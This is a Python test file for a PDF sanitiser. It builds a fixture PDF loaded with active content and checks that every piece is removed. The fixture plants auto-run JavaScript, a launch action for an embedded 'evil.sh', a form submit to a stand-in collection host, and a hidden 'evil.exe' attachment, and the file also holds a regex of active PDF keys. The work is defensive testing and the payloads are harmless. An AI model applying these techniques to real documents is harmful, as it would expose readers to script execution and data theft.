"""PDFs lose their active content: JavaScript, actions that leave the document, embedded
files, XFA forms; a PDF without any is kept as it is."""

from __future__ import annotations

import re
from pathlib import Path

import pymupdf

from abstain_build.media.pdf_sanitise import sanitise_pdf

from .conftest import FIXTURES

ACME = FIXTURES / "mmlongbench-doc" / "documents" / "ACME_2021_10K.pdf"
#: What the build removes from :func:`hostile_pdf`, as its records list it.
REMOVED = [
    "javascript: 3",  # the OpenAction, the name tree's script, page 1's open action
    "launch_actions: 1",
    "uri_actions: 1",  # a javascript: link
    "remote_goto_actions: 1",
    "import_data_actions: 1",
    "submit_form_actions: 1",
    "embedded_files: 2",  # evil.sh, and the file of the attachment annotation
    "file_attachments: 1",
    "xfa_forms: 1",
]
ACTIVE = re.compile(
    r"/(?:JavaScript|JS|AA|Launch|URI|GoToR|GoToE|ImportData|SubmitForm|EmbeddedFiles?|EF"
    r"|XFA|FileAttachment)\b"
)


def _js(code: str) -> str:
    return f"<</S/JavaScript/JS({code})>>"


def hostile_pdf(source: Path, target: Path) -> Path:
    """``source`` with every kind of active content a shipped PDF must not carry."""
    doc = pymupdf.open(source)
    first, second = doc[0], doc[1]
    field = pymupdf.Widget()
    field.field_type = pymupdf.PDF_WIDGET_TYPE_TEXT
    field.field_name = "email"
    field.rect = pymupdf.Rect(400, 20, 560, 40)
    field.field_value = "you@example.org"
    widget = first.add_widget(field)
    doc.xref_set_key(widget.xref, "A", "<</S/SubmitForm/F<</FS/URL/F(http://collect.example)>>>>")
    doc.xref_set_key(widget.xref, "AA", "<</K<</S/ImportData/F(data.fdf)>>>>")
    catalog = doc.pdf_catalog()
    doc.xref_set_key(catalog, "OpenAction", _js("app.alert(1)"))
    script = doc.get_new_xref()
    doc.update_object(script, _js("app.alert(2)"))
    doc.xref_set_key(catalog, "Names", f"<</JavaScript<</Names[(init) {script} 0 R]>>>>")
    xfa = doc.get_new_xref()
    doc.update_object(xfa, "<<>>")
    doc.update_stream(xfa, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>", new=True)
    doc.xref_set_key(catalog, "AcroForm/XFA", f"{xfa} 0 R")
    doc.embfile_add("evil.sh", b"#!/bin/sh\necho owned\n", filename="evil.sh")
    doc.xref_set_key(first.xref, "AA", f"<</O{_js('app.alert(3)')}>>")
    for link in (
        {"kind": pymupdf.LINK_URI, "uri": "javascript:app.alert(4)"},
        {"kind": pymupdf.LINK_LAUNCH, "file": "evil.sh"},
        {"kind": pymupdf.LINK_GOTOR, "file": "other.pdf", "page": 0},
        {"kind": pymupdf.LINK_GOTO, "page": 1},  # an ordinary internal link: it stays
    ):
        top = 20 + 30 * len(first.get_links())
        first.insert_link({**link, "from": pymupdf.Rect(20, top, 80, top + 20)})
    attachment = second.add_file_annot(pymupdf.Point(30, 30), b"MZ payload", "evil.exe")
    attachment.set_flags(pymupdf.PDF_ANNOT_IS_HIDDEN)  # so that every pixel can be compared
    attachment.update()
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(doc.tobytes(garbage=3, deflate=True, no_new_id=True))
    doc.close()
    return target


def active_content(data: bytes) -> list[str]:
    """Everything active a PDF holds, as PyMuPDF sees it: embedded files, objects naming
    scripts, actions, files or forms, file-attachment annotations, links other than GoTo."""
    with pymupdf.open(stream=data, filetype="pdf") as doc:
        found = [f"{doc.embfile_count()} embedded file(s)"] if doc.embfile_count() else []
        for xref in range(1, doc.xref_length()):
            found += [f"object {xref}: {m}" for m in ACTIVE.findall(doc.xref_object(xref))]
        for page in doc:
            found += [
                f"page {page.number + 1}: {annot.type[1]} annotation"
                for annot in page.annots()
                if annot.type[0] == pymupdf.PDF_ANNOT_FILE_ATTACHMENT
            ]
            found += [
                f"page {page.number + 1}: link of kind {link['kind']}"
                for link in page.get_links()
                if link["kind"] != pymupdf.LINK_GOTO
            ]
    return found


def test_the_hostile_source_has_every_kind_of_active_content(tmp_path: Path) -> None:
    found = " ".join(active_content(hostile_pdf(ACME, tmp_path / "hostile.pdf").read_bytes()))
    for kind in ("embedded file", "JavaScript", "Launch", "URI", "GoToR", "ImportData"):
        assert kind in found
    for kind in ("SubmitForm", "XFA", "FileAttachment annotation", "/AA"):
        assert kind.lstrip("/") in found


def test_a_clean_pdf_is_kept_byte_for_byte() -> None:
    data = ACME.read_bytes()
    clean = sanitise_pdf(data, ACME.name)
    assert clean.data == data and clean.removed == ()


def test_sanitising_is_deterministic(tmp_path: Path) -> None:
    data = hostile_pdf(ACME, tmp_path / "hostile.pdf").read_bytes()
    first, second = sanitise_pdf(data, "hostile.pdf"), sanitise_pdf(data, "hostile.pdf")
    assert first.data == second.data and list(first.removed) == REMOVED
    assert sanitise_pdf(first.data, "again").removed == ()
